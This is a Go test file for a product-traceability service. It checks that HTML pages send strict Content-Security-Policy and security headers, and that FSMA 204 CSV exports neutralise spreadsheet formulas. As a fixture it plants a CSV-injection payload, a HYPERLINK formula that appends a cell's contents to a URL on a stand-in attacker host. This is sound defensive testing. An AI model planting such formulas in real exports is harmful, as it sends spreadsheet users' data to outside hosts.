package handlers_test

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// form posts values as the scan page's form does.
func (e *env) form(p string, v url.Values) response {
	req := httptest.NewRequest("POST", p, strings.NewReader(v.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	rec := httptest.NewRecorder()
	e.h.ServeHTTP(rec, req)
	return response{Code: rec.Code, Body: rec.Body.Bytes(), Hdr: rec.Header()}
}

// TestPagesAndExportsAreSafe is issue 9 item 11: every HTML page carries
// a Content-Security-Policy without inline script whose style hash is the
// page's style sheet, with nosniff, no referrer and no framing; every
// response is nosniff; CSV exports neutralise cells a spreadsheet would
// run.
func TestPagesAndExportsAreSafe(t *testing.T) {
	s := newScanEnv(t)
	styleRE := regexp.MustCompile(`(?s)<style>(.*?)</style>`)
	pages := map[string]response{
		"scan page":   s.get(path(s.codes[0].URI), "text/html", "en"),
		"error page":  s.get("/01/09506000134353", "text/html", "zh"),
		"product":     s.get("/01/"+s.gtin, "text/html", "en"),
		"receipt":     s.form("/api/v1/tipoffs?lang=en", url.Values{"subject": {"product"}, "gtin": {s.gtin}, "category": {"quality"}, "description": {"Smells odd"}}),
		"unit (SSCC)": s.get("/00/106141410000000002", "text/html", "en"),
	}
	for name, r := range pages {
		csp := r.Hdr.Get("Content-Security-Policy")
		if !strings.HasPrefix(r.Hdr.Get("Content-Type"), "text/html") {
			t.Fatalf("%s: %d %s %s", name, r.Code, r.Hdr.Get("Content-Type"), r.Body)
		}
		for _, want := range []string{"default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"} {
			if !strings.Contains(csp, want) {
				t.Fatalf("%s: CSP %q lacks %s", name, csp, want)
			}
		}
		if strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "script-src") || strings.Contains(string(r.Body), "<script") {
			t.Fatalf("%s: inline script allowed or present: %s", name, csp)
		}
		m := styleRE.FindSubmatch(r.Body)
		if m == nil {
			t.Fatalf("%s: no style sheet", name)
		}
		sum := sha256.Sum256(m[1])
		if !strings.Contains(csp, "'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'") {
			t.Fatalf("%s: the CSP does not allow the page's own style sheet", name)
		}
		if r.Hdr.Get("X-Content-Type-Options") != "nosniff" || r.Hdr.Get("Referrer-Policy") != "no-referrer" || r.Hdr.Get("X-Frame-Options") != "DENY" {
			t.Fatalf("%s: headers %v", name, r.Hdr)
		}
	}
	for _, p := range []string{"/api/v1/products/" + s.gtin, "/api/v1/nothing", path(s.codes[0].URI)} {
		if r := s.get(p, "application/json", ""); r.Hdr.Get("X-Content-Type-Options") != "nosniff" {
			t.Fatalf("%s: no nosniff", p)
		}
	}

	// A product whose name is a formula and a lot that looks like one,
	// exported as FSMA 204.
	g := gtin(t, 9)
	s.must(201, "POST", "/api/v1/products", s.owner, map[string]any{"gtin": g, "category": "food",
		"name": `=HYPERLINK("http://evil.example/?"&A1,"Click for details")`})
	lot := `=HYPERLINK("x.cn")` // GS1 set 82 allows it
	s.must(201, "POST", "/api/v1/products/"+g+"/batches", s.owner, map[string]any{"lot": lot, "productionDate": "2026-11-01", "quantity": 5, "unit": "EA"})
	class := "https://id.example.cn/01/" + g + "/10/" + url.PathEscape(lot)
	s.captureOK(s.owner, objectEvent("ADD", "commissioning", "2026-11-02T08:00:00+08:00", []string{},
		`"quantityList":[{"epcClass":`+strconv.Quote(class)+`,"quantity":5,"uom":"EA"}]`),
		objectEvent("OBSERVE", "shipping", "2026-11-04T08:00:00+08:00", []string{},
			`"quantityList":[{"epcClass":`+strconv.Quote(class)+`,"quantity":5,"uom":"EA"}],`+
				dest("https://id.example.cn/api/v1/entities/"+s.ownerID)))
	f := s.must(200, "GET", "/api/v1/trace/lots/"+g+"/"+url.PathEscape(lot)+"/fsma204.csv", s.owner, nil)
	rows, err := csv.NewReader(strings.NewReader(string(f.Body))).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("fsma: %v %s", err, f.Body)
	}
	found := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("FSMA cell %q would run in a spreadsheet", cell)
			}
			if strings.HasPrefix(cell, "'=HYPERLINK") {
				found++
			}
		}
	}
	if found < 2 {
		t.Fatalf("the formulas are not in the export, neutralised (%d found):\n%s", found, f.Body)
	}
}
